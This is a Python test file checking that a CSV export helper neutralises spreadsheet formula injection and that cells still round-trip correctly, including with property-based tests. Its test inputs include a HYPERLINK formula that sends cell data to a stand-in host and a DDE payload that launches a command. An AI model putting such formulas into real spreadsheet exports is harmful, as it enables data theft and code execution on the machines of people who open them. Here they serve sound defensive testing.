"""tidings/cli/files/formulas.py"""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tidings.cli.files.formulas import guarded, unguarded


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"open")',
        "=1+1",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        "'=1+1",
        "+49 151 1234",
    ],
)
def test_what_a_spreadsheet_would_run_becomes_text(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    "text",
    ["", "Hello", "+4915112345678", "-3.5", "4=2+2", "a@example.com", "'tis", "it's =1", "https://example.com/=1"],
)
def test_what_is_none_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text == unguarded(text)


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n1a\uff0b"), max_size=6) | st.text(max_size=20))
def test_a_file_gives_back_what_was_written(text: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file, lineterminator="\r\n").writerow([guarded(text), "x"])
    file.seek(0)
    [[cell, _]] = csv.reader(file)
    assert unguarded(cell) == text
